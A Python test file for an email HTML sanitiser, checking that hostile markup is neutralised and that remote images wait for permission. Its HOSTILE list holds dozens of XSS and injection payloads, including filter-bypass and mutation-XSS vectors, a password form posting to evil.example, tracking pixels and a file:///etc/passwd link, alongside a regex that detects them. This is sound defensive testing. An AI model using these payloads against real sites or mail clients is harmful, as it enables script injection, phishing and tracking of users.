"""Strangers' HTML is inert, and its images ask before they are fetched."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from infrastructure.channels.email.html import has_blocked_images, sanitise, text_of_html
from infrastructure.channels.email.html_nesting import level

HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvA\tScript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='&#1;data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:alert(1)'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "<p style=\"background:url('https://evil.example/t.gif')\">x</p>",
    "<p style='background-color:u\\72l(https://evil.example)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;z-index:9999'>x</p>",
    "<p id=session class=admin name=x>x</p>",
    "<table background='https://evil.example/t.gif'><tr><td background='https://evil.example/t.gif'>x</table>",
    "<img srcset='https://evil.example/t.gif 2x'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<video src='https://evil.example/v' autoplay poster='https://evil.example/p'></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<p><a title='<!--'>--><img src=x onerror=alert(1)></a></p>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<a href='cid:x'>x</a><a href='file:///etc/passwd'>x</a>",
    "<img src='cid:x\" onerror=\"alert(1)'>",
]
FORBIDDEN = re.compile(
    r"<(?:script|svg|math|iframe|object|embed|form|input|button|base|meta|link|style|video|template|select|textarea"
    r"|body|marquee|noscript)\b|\son\w+=|javascript:|vbscript:|data:text|svg\+xml|url\(|expression|position|srcset"
    r"|\s(?:id|class|name|background|poster)=",
    re.IGNORECASE,
)
TAG = re.compile(r"<[^>]*>")
READ_ONLY = re.compile(r'\s(alt|title|lang|dir|face)="[^"]*"')
FETCHES = re.compile(r"\s(?:src|srcset|poster|background|data)=\"(?:https?:)?//", re.IGNORECASE)


def tags(html: str) -> str:
    """Return the tags alone, without the values of attributes that are only read: those may say anything."""
    return "".join(READ_ONLY.sub(r' \1=""', tag) for tag in TAG.findall(html))


@pytest.mark.req("EML-17", "SE-04")
@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("many", [1, 1_600])
def test_nothing_of_it_can_act(hostile: str, many: int) -> None:
    clean = sanitise(hostile * many, lambda _cid: '/files/1?a=1&b="')
    assert not FORBIDDEN.search(tags(clean))
    assert not FETCHES.search(tags(clean))


@pytest.mark.req("SE-04")
@given(
    st.lists(st.sampled_from(HOSTILE) | st.text(alphabet="<>'\"/=& ;-!ax", max_size=12), max_size=20).map(
        "".join
    )
)
def test_no_mixture_of_it_can_act(mixed: str) -> None:
    clean = sanitise(mixed)
    assert not FORBIDDEN.search(tags(clean))
    assert not FORBIDDEN.search(tags(sanitise(clean, allow_remote=True)))


@pytest.mark.req("EML-17")
def test_remote_images_wait_until_they_are_asked_for() -> None:
    raw = "<p>x</p><img src='https://shop.example/a.png?x=1&y=2' alt=logo width=10>"
    blocked = sanitise(raw)
    assert 'data-blocked-src="https://shop.example/a.png?x=1&amp;y=2"' in blocked
    assert not re.search(r"\ssrc=", blocked)
    assert has_blocked_images(blocked)
    shown = sanitise(raw, allow_remote=True)
    assert ' src="https://shop.example/a.png?x=1&amp;y=2"' in shown
    assert not has_blocked_images(shown)


@pytest.mark.req("EML-17")
def test_images_of_the_mail_itself_are_shown_by_their_address_with_us() -> None:
    raw = "<img src='cid:shoe'><img src='CID:other'><img src='data:image/png;base64,iVBORw0='>"
    clean = sanitise(raw, {"shoe": "/a/1?x=1&y=2"}.get)
    assert ' src="/a/1?x=1&amp;y=2"' in clean
    assert clean.count("src=") == 2
    assert "cid:" not in clean.lower()


@pytest.mark.req("EML-17")
def test_what_people_write_survives() -> None:
    raw = (
        '<div style="color: #333; font-size:12px"><h1>A</h1><table border=1><tr><td align="right">1</td></tr></table>'
        '<a href="https://x.example/?a=1&b=2">x</a><blockquote>q</blockquote><pre> p </pre></div>'
    )
    clean = sanitise(raw)
    for kept in (
        "color:#333",
        "<h1>A</h1>",
        'align="right"',
        "?a=1&amp;b=2",
        "<blockquote>q",
        "<pre> p </pre>",
    ):
        assert kept in clean
    assert 'rel="noopener noreferrer nofollow"' in clean


@pytest.mark.req("SE-04")
@given(
    st.lists(
        st.sampled_from(["<div>", "</div>", "<b a=1>", "</b>", "<p>", "</p>", "<br>", "x", "<", "&", "<td>"])
    )
)
def test_levelled_html_is_well_nested(pieces: list[str]) -> None:
    levelled = level("".join(pieces) + "<i></i>" * 800)
    stack: list[str] = []
    for match in re.finditer(r"<(/?)([a-z]+)[^<>]*>", levelled):
        if match[2] in {"br", "hr", "img"}:
            continue
        if match[1]:
            assert stack.pop() == match[2]
        else:
            stack.append(match[2])
    assert not stack


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>a</p><p>b</p>", "a\n\nb"),
        ("a<br>b", "a\nb"),
        ("<ul><li>a</li><li>b</li></ul>", "- a\n- b"),
        ("<tr><td>a</td><td>b</td></tr>", "a b"),
        ("a &lt;b&gt; &amp; c", "a <b> & c"),
        ("<title>no</title><script>no()</script><!-- no -->yes", "yes"),
        ("<html><head><title>no</title><meta charset=x><body>yes", "yes"),
        ("<header>yes</header>", "yes"),
        ("a  \n b&nbsp;c", "a b c"),
        ('<a title="x>y">link</a>', "link"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("", ""),
    ],
)
def test_html_as_text(html: str, text: str) -> None:
    assert text_of_html(html) == text
